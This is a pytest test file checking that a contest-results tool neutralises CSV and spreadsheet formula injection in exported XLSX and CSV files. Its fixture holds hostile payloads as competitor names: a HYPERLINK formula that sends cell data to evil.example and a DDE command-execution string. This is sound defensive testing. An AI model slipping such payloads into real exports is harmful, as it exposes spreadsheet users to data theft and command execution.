"""Exports that never run (issue 16, OWASP CSV injection): names that are formulas stay text.

A competitor list with names and units such as ``=HYPERLINK(…)`` and ``=cmd|' /C calc'!A0`` goes
through the whole contest (import, draw, marks, lock, decrypt); then ``results --xlsx`` must hold
no formula cell and keep every value, and ``results --csv --out`` must prefix each with ``'``.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from db.files.csv_out import safe_text
from tests.conftest import EXAMPLES, cli, second_entry

EVIL = {
    "史红霞": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
    "史凤伟": "=cmd|' /C calc'!A0",
    "范海军": "+1+1",
    "汪丽娟": "-2+3",
    "贺占鹏": "@SUM(1,1)",
}
EVIL_UNIT = "=1+1 哈尔滨"


@pytest.fixture(scope="module")
def evil_contest(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("evil")
    lines = (EXAMPLES / "competitors.csv").read_text(encoding="utf-8-sig").splitlines()
    out = [lines[0]]
    for line in lines[1:]:
        name, rest = line.split(",", 1)
        cells = [EVIL.get(name, name), *next(csv.reader([rest]))]
        if name == "何犇":
            cells[3] = EVIL_UNIT
        buf = io.StringIO()
        csv.writer(buf, lineterminator="").writerow(cells)
        out.append(buf.getvalue())
    people = d / "competitors.csv"
    people.write_text("\n".join(out) + "\n", encoding="utf-8")
    db = d / "evil.jxdb"
    e = EXAMPLES
    steps = [
        (("init", e / "competition.toml", "--db", db), "admin"),
        (("competitors", "import", people, "--db", db), "admin"),
        (("draw", "--event", "GJQG", "--from", e / "draw.csv", "--db", db), "admin"),
        (("marks", "import", e / "marks.csv", "--db", db), "recorder"),
        (("marks", "import", second_entry(e / "marks.csv", d), "--db", db), "recorder2"),
        (("times", "import", e / "times.csv", "--db", db), "chief"),
        (("theory", "import", e / "theory.csv", "--db", db), "admin"),
        (("lock", "--event", "GJQG", "--db", db), "chief"),
        (("decrypt", "--event", "GJQG", "--db", db), "encryption"),
    ]
    for argv, who in steps:
        assert cli(*argv, who=who) == 0, argv
    return db


def test_results_xlsx_holds_no_formula(evil_contest: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.xlsx"
    assert cli("results", "--event", "GJQG", "--xlsx", out, "--db", evil_contest,
               who="admin") == 0
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells if isinstance(c.value, str)}
    for evil in [*EVIL.values(), EVIL_UNIT]:
        assert evil in values  # the value kept as typed, as a string cell


def test_results_csv_file_prefixes_every_dangerous_cell(evil_contest: Path,
                                                        tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    assert cli("results", "--event", "GJQG", "--csv", "--out", out, "--db", evil_contest,
               who="admin") == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data[3:].decode("utf-8"))))
    header, body = rows[0], rows[1:]
    assert header[:4] == ["名次 place", "工位号 station", "参赛编号 candidate", "姓名 name"]
    names = {r[3] for r in body}
    for evil in EVIL.values():
        assert "'" + evil in names and evil not in names
    assert "'" + EVIL_UNIT in {r[4] for r in body}
    for r in body:  # nothing else starts a cell with a formula character
        for cell in r:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell.startswith('="')
            assert not cell.startswith("-")


def test_safe_text() -> None:
    assert safe_text("=1+1") == "'=1+1"
    assert safe_text("\t=1") == "'\t=1"
    assert safe_text("\r=1") == "'\r=1"
    assert safe_text("@x") == "'@x"
    assert safe_text("-1.5") == "-1.5"  # a number is not a formula
    assert safe_text("-2+3") == "'-2+3"
    assert safe_text("王伟") == "王伟" and safe_text(None) == ""


def test_every_xlsx_writer_goes_through_save_workbook() -> None:
    root = Path(__file__).resolve().parents[2]
    offenders = [str(p.relative_to(root)) for p in (root / "db").rglob("*.py")
                 if "wb.save(" in p.read_text(encoding="utf-8")
                 and p.name != "tables.py"]
    assert offenders == []
